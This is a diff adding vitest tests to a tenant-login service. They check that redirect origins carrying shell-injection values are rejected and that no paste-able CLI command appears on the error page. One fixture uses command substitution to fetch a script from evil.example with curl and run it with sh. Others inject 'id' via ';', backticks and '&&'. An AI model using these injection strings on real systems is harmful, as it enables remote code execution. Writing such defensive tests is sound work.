@@ -5,6 +5,7 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createKey } from '../src/modules/keys/index.js';
+import { checkOrigin } from '../src/modules/tenants/index.js';
 import { DIALECTS, email, json, startApp, type TestApp, type TestTenant } from './support.js';
 
 const ORIGIN = 'http://localhost:5173';
@@ -224,6 +225,30 @@ describe.each(DIALECTS)('answers that say what to do on %s', (dialect) => {
       expect(page).toMatch(
         /<a href="https:\/\/staging\.example\.com\/">Go back to staging\.example\.com<\/a>/,
       );
+    });
+
+    it.for([
+      ['https://a;id;.example.com/cb'],
+      ['https://a`id`b.example.com/cb'],
+      ['https://x&&id.example.com/cb'],
+      ["https://$({curl,-so,x,evil.example})$({sh,x}).y/cb"],
+    ] as const)(
+      'an origin no DNS name can have (%s): no command to paste into a shell, on a development tenant either',
+      async ([redirect]) => {
+        const res = await app.request(link(dev, redirect));
+        expect(res.status).toBe(400);
+        const page = await res.text();
+        expect(textOf(page)).toContain(`is not an allowed origin of ${dev.tenant.name}`);
+        expect(page).not.toContain('latchkey tenant update');
+      },
+    );
+
+    it('the CLI and the admin area refuse such an origin too', async () => {
+      for (const origin of ['https://a;id;.example.com', 'http://x&&id.localhost:3000']) {
+        expect(checkOrigin(origin, 'development')).toMatch(/not a DNS name or an IP address/);
+      }
+      expect(checkOrigin('https://my_app.example.com', 'development')).toBeNull();
+      expect(checkOrigin('https://[::1]:8443', 'development')).toBeNull();
     });
 
     it('an origin not allowed, on a production tenant: no command, no admin link', async () => {
